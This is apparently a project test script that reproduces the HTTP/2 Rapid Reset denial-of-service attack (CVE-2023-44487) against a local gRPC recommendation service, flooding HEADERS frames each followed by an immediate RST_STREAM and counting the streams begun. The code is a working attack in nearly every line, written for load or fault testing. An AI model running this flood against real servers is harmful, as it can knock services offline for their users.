"""Calls that are reset as soon as they are begun: `python -m tests.faults.rapid_reset PORT SECONDS`.

Prints how many. CVE-2023-44487: streams that are reset no longer count against the limit of a connection, so that one
connection can begin as many calls as it can write.
"""

import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
CANCEL = (8).to_bytes(4, "big")
RESETS_PER_WRITE = 50
# The last one that a client may begin on a connection.
LAST_STREAM = (1 << 31) - 1


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def headers(path: bytes, *further: tuple[bytes, bytes]) -> bytes:
    """The header block of a call, without compression."""
    fields = [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
        (b"te", b"trailers"), (b"content-type", b"application/grpc"), *further,
    ]  # fmt: skip
    return b"".join(b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


def reset_calls(port: int, seconds: float) -> int:
    """Begin and reset calls for so long, and return how many; on a new connection where the server ends one."""
    block = headers(b"/winnow.v1.RecommendationService/RecommendItems", (b"grpc-timeout", b"5S"))
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                for first in range(1, LAST_STREAM, 2 * RESETS_PER_WRITE):
                    streams = range(first, first + 2 * RESETS_PER_WRITE, 2)
                    connection.sendall(
                        b"".join(
                            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                            for stream in streams
                        )
                    )
                    count += RESETS_PER_WRITE
                    _drop_what_was_sent(connection)
                    if time.monotonic() >= end:
                        break
        except OSError:
            continue
    return count


def _drop_what_was_sent(connection: socket.socket) -> None:
    connection.setblocking(False)
    try:
        while connection.recv(65_536):
            pass
    except BlockingIOError:
        pass
    finally:
        connection.settimeout(5)


if __name__ == "__main__":
    sys.stdout.write(f"{reset_calls(int(sys.argv[1]), float(sys.argv[2]))}\n")
